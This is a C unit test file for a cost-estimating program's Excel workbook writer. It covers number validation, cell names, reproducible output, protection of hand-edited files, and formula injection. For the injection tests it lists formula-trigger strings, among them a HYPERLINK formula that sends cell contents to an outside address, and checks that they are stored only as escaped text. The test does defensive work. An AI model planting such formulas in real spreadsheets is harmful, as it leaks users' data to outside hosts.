/* The cost workbook as a file: what may go into a cell, formulas, same bytes, files changed by hand, failures. */
#include <locale.h>

#include "packages.h"
#include "sample_report.h"

#include "../../src/report/cells.h"
#include "../../src/report/safe_write.h"
#include "sawbill/text.h"

static const char *write_sample(struct sample *s, const char *folder, const char *name)
{
    const char *written = NULL, *why = NULL;
    const char *path = arena_printf(s->arena, "%s/%s", folder, name);
    enum write_status status = report_workbook(s->arena, &s->report, path, &written, &why);
    if (status != WRITE_DONE)
        print_error("%s: %s\n", path, why);
    assert_int_equal(status, WRITE_DONE);
    return written;
}

static void test_refuses_what_is_no_number(void **state)
{
    const double bad[] = {NAN, INFINITY, -INFINITY};
    for (size_t i = 0; i < 3; i++)
        for (int formula = 0; formula < 2; formula++) {
            struct book *book = book_new(*state);
            struct page *page = book_page(book, "Page");
            book->date = (struct date){2026, 3, 5};
            if (formula)
                page_formula(page, 6, 1, LOOK_MONEY, bad[i], "=%s", "A1");
            else
                page_number(page, 6, 1, LOOK_MONEY, bad[i]);
            const char *folder = new_folder(*state), *written = NULL, *why = NULL;
            const char *path = arena_printf(*state, "%s/bad.xlsx", folder);
            assert_int_equal(safe_write_book(book, path, &written, &why), WRITE_INTERNAL);
            assert_non_null(strstr(why, "Page!B7"));
            assert_false(exists(path));
            assert_int_equal(rmdir(folder), 0); /* nothing is left in it */
        }
}

static void test_addresses(void **state)
{
    assert_string_equal(cell_name(*state, 0, 0), "A1");
    assert_string_equal(cell_name(*state, 9, 25), "Z10");
    assert_string_equal(cell_name(*state, 0, 26), "AA1");
    assert_string_equal(cell_name(*state, 0, 701), "ZZ1");
    assert_string_equal(cell_name(*state, 0, 702), "AAA1");
    assert_string_equal(cell_fixed(*state, 6, 6), "$G$7");
}

/* OWASP, CSV injection (CWE-1236): the characters that start a formula, and harmless trade texts that start alike. */
static const char *const TRIGGERS[] = {
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "=1\",\"=2",
    "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
    "-3/4 in. trim",
    "@ 16 in. o.c.",
    "A & B <b>",
    "_x0041_ stays",
    "=Prices!$G$5",
};
enum { TRIGGER_COUNT = sizeof TRIGGERS / sizeof *TRIGGERS };

static char *escaped(struct arena *arena, const char *text)
{
    struct buffer out = {.arena = arena};
    for (const char *p = text; *p; p++) {
        if (*p == '&')
            buffer_add(&out, "&amp;");
        else if (*p == '<')
            buffer_add(&out, "&lt;");
        else if (*p == '>')
            buffer_add(&out, "&gt;");
        else if (!strncmp(p, "_x0041_", 7))
            buffer_add(&out, "_x005F_");
        else
            buffer_add_n(&out, p, 1);
        if (!strncmp(p, "_x0041_", 7)) {
            buffer_add(&out, "x0041_");
            p += 6;
        }
    }
    return arena_strdup(arena, buffer_text(&out));
}

static const char *const ALLOWED[] = {"SUM", "ROUND", "ROUNDUP", "MAX", "IF", "SUMIFS", "SUMPRODUCT", "INDEX", "MATCH"};

/* Names in front of '(' are functions of the list above, and text in quotes is ours: words without a formula sign. */
static void check_formula(struct arena *arena, const char *formula)
{
    for (const char *p = formula; *p; p++) {
        if (*p != '(')
            continue;
        const char *start = p;
        while (start > formula && ((start[-1] >= 'A' && start[-1] <= 'Z') || (start[-1] >= 'a' && start[-1] <= 'z')))
            start--;
        bool known = start == p;
        for (size_t i = 0; i < sizeof ALLOWED / sizeof *ALLOWED; i++)
            known =
                known || (strlen(ALLOWED[i]) == (size_t)(p - start) && !strncmp(ALLOWED[i], start, strlen(ALLOWED[i])));
        if (!known)
            print_error("a function that is not of the list, in %s\n", formula);
        assert_true(known);
    }
    for (size_t i = 0; i < TRIGGER_COUNT; i++)
        if (strcmp(TRIGGERS[i], "=Prices!$G$5") != 0)
            assert_null(strstr(formula, escaped(arena, TRIGGERS[i])));
}

/* Every <f> of a sheet; each must have a value beside it. */
static size_t check_formulas(struct arena *arena, const char *sheet)
{
    size_t count = 0;
    for (const char *p = strstr(sheet, "<f>"); p; p = strstr(p, "<f>")) {
        const char *end = strstr(p, "</f>");
        assert_non_null(end);
        check_formula(arena, arena_strndup(arena, p + 3, (size_t)(end - p - 3)));
        assert_memory_equal(end, "</f><v>", 7);
        count++;
        p = end;
    }
    return count;
}

static void test_text_stays_text(void **state)
{
    struct sample *s = sample_new(*state);
    for (size_t i = 0; i < TRIGGER_COUNT; i++) {
        const char *text = TRIGGERS[i];
        s->job.facts.name.text = s->job.facts.client.text = s->job.facts.site.text = text;
        s->job.facts.scope = s->job.facts.exclude = (struct texts_value){&s->job.facts.name, 1};
        s->supplier[0].name = s->price[0].supplier = s->price[2].supplier = text;
        s->price[0].note = s->price[1].cost_code = s->trade[0].trade = s->task[0].task = text;
        for (size_t k = 0; k < s->takeoff.count; k++)
            s->line[k].what = s->line[k].where = s->line[k].counted = text;
        s->task[0].trade = s->trade[0].trade;
        sample_price(s);
        const char *folder = new_folder(*state), *path = write_sample(s, folder, "text.xlsx");
        assert_non_null(strstr(part_of(*state, path, "xl/sharedStrings.xml"), escaped(*state, text)));
        size_t formulas = 0;
        for (int sheet = 1; sheet <= 10; sheet++)
            formulas +=
                check_formulas(*state, part_of(*state, path, arena_printf(*state, "xl/worksheets/sheet%d.xml", sheet)));
        assert_true(formulas > 60);
        unlink(path);
        rmdir(folder);
    }
}

static void test_same_bytes_twice(void **state)
{
    struct sample *s = sample_new(*state), *again = sample_new(*state);
    const char *folder = new_folder(*state);
    const char *a = write_sample(s, folder, "a.xlsx"), *b = write_sample(again, folder, "b.xlsx");
    assert_true(same_bytes(*state, a, b));
    /* Over a file of ours the name stays. */
    assert_string_equal(write_sample(s, folder, "a.xlsx"), a);
    assert_true(same_bytes(*state, a, b));
}

static void test_same_bytes_with_a_decimal_comma(void **state)
{
    struct sample *s = sample_new(*state);
    const char *folder = new_folder(*state), *a = write_sample(s, folder, "a.xlsx");
    if (!setlocale(LC_ALL, "de_DE.UTF-8")) {
        print_message("no locale de_DE.UTF-8 here (LOCPATH): skipped\n");
        skip();
    }
    char comma[16];
    snprintf(comma, sizeof comma, "%.1f", 1.5);
    const char *b = write_sample(sample_new(*state), folder, "b.xlsx");
    setlocale(LC_ALL, "C");
    assert_string_equal(comma, "1,5"); /* the locale really was on */
    assert_true(same_bytes(*state, a, b));
}

static char *change_first_value(struct arena *arena, char *text, size_t *length)
{
    (void)arena;
    char *value = strstr(text, "<v>0.12</v>");
    assert_non_null(value);
    value[6] = '3'; /* 0.12 -> 0.13 */
    assert_true(*length > 11);
    return text;
}

static void test_hand_edited_file_is_kept(void **state)
{
    struct sample *s = sample_new(*state);
    const char *folder = new_folder(*state), *path = write_sample(s, folder, "bid.xlsx");
    const char *edited = arena_printf(*state, "%s/edited.xlsx", folder);
    repack(*state, path, edited, "xl/worksheets/sheet9.xml", change_first_value);
    assert_int_equal(rename(edited, path), 0);
    size_t before, after;
    char *bytes = slurp(*state, path, &before);
    const char *second = write_sample(s, folder, "bid.xlsx");
    assert_string_equal(second, arena_printf(*state, "%s/bid-r2.xlsx", folder));
    assert_memory_equal(slurp(*state, path, &after), bytes, before);
    /* The second is ours: it is written over. Edited too, there is a third. */
    assert_string_equal(write_sample(s, folder, "bid.xlsx"), second);
    repack(*state, second, edited, "xl/worksheets/sheet9.xml", change_first_value);
    assert_int_equal(rename(edited, second), 0);
    assert_string_equal(write_sample(s, folder, "bid.xlsx"), arena_printf(*state, "%s/bid-r3.xlsx", folder));
}

static void test_foreign_file_is_kept(void **state)
{
    struct sample *s = sample_new(*state);
    const char *folder = new_folder(*state), *path = arena_printf(*state, "%s/bid.xlsx", folder), *why = NULL;
    assert_int_equal(report_text(*state, path, "a note of mine\n", &why), WRITE_DONE);
    assert_string_equal(write_sample(s, folder, "bid.xlsx"), arena_printf(*state, "%s/bid-r2.xlsx", folder));
    size_t length;
    assert_string_equal(slurp(*state, path, &length), "a note of mine\n");
}

static void test_places_that_cannot_be_written(void **state)
{
    struct sample *s = sample_new(*state);
    const char *folder = new_folder(*state), *written = NULL, *why = NULL;
    const char *missing = arena_printf(*state, "%s/no/such/bid.xlsx", folder);
    assert_int_equal(report_workbook(*state, &s->report, missing, &written, &why), WRITE_FILE_FAULT);
    assert_string_equal(why, "no such folder");
    assert_int_equal(report_workbook(*state, &s->report, folder, &written, &why), WRITE_FILE_FAULT);
    assert_string_equal(why, "it is a folder");
    assert_int_equal(report_text(*state, "/dev/full", "text", &why), WRITE_FILE_FAULT);
    assert_string_equal(why, "it is not an ordinary file");
    assert_int_equal(rmdir(folder), 0);
}

static void test_every_sheet_is_internal_on_letter(void **state)
{
    struct sample *s = sample_new(*state);
    s->job.facts.name.text = "Q&A 50 % off";
    const char *path = write_sample(s, new_folder(*state), "bid.xlsx");
    for (int i = 1; i <= 10; i++) {
        char *sheet = part_of(*state, path, arena_printf(*state, "xl/worksheets/sheet%d.xml", i));
        assert_non_null(strstr(sheet, "paperSize=\"1\""));
        assert_non_null(strstr(sheet, "<oddHeader>&amp;L&amp;9 INTERNAL"));
        assert_non_null(strstr(sheet, "26-003 Q&amp;&amp;A 50 % off, 2026-03-05"));
        assert_non_null(strstr(sheet, "fitToPage=\"1\""));
    }
    assert_null(part_of(*state, path, "xl/worksheets/sheet11.xml"));
}

static void test_budget_says_so(void **state)
{
    struct sample *s = sample_new(*state);
    s->job.facts.status.choice = STATUS_BUDGET;
    s->report.signable = false;
    const char *path = write_sample(s, new_folder(*state), "bid.xlsx");
    for (int i = 1; i <= 10; i++) {
        char *sheet = part_of(*state, path, arena_printf(*state, "xl/worksheets/sheet%d.xml", i));
        assert_non_null(strstr(sheet, "<oddHeader>&amp;L&amp;9 BUDGET"));
    }
    assert_non_null(strstr(part_of(*state, path, "xl/sharedStrings.xml"), "do not order"));
}

static void test_unused_price_has_no_cell(void **state)
{
    struct sample *s = sample_new(*state);
    const char *path = write_sample(s, new_folder(*state), "bid.xlsx");
    assert_null(strstr(part_of(*state, path, "xl/sharedStrings.xml"), "NEVER-USED"));
    assert_non_null(strstr(part_of(*state, path, "xl/sharedStrings.xml"), "HANGER-210"));
}

/* An engineer's member carries a ratio and his name for it, never our verdict. */
static void test_engineers_member_never_passes(void **state)
{
    struct sample *s = sample_new(*state);
    s->design.members[0]->specified = true;
    const char *path = write_sample(s, new_folder(*state), "bid.xlsx");
    char *text = part_of(*state, path, "xl/sharedStrings.xml");
    assert_null(strstr(text, "<t>passes</t>"));
    assert_null(strstr(text, "PASS"));
    assert_non_null(strstr(text, "<t>as specified</t>"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_refuses_what_is_no_number, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_addresses, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_text_stays_text, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_same_bytes_twice, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_same_bytes_with_a_decimal_comma, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_hand_edited_file_is_kept, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_foreign_file_is_kept, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_places_that_cannot_be_written, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_every_sheet_is_internal_on_letter, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_budget_says_so, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_unused_price_has_no_cell, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(test_engineers_member_never_passes, support_setup, packages_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
